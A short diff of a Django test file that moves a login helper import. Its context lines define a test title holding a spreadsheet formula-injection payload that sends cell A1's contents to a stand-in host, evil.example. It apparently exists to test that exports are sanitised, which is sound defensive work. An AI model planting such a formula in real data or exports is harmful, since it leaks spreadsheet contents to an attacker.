@@ -13,10 +13,10 @@ import time_machine
 from django.core import mail
 from django.core.management import call_command
 
-from conftest import login
 from outhire.analytics import aggregates
 from outhire.engagements.models import Engagement
 from outhire.requisitions import services as requisitions
+from outhire.testing import login
 
 T0 = datetime(2026, 10, 2, 9, 0, tzinfo=UTC)
 TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
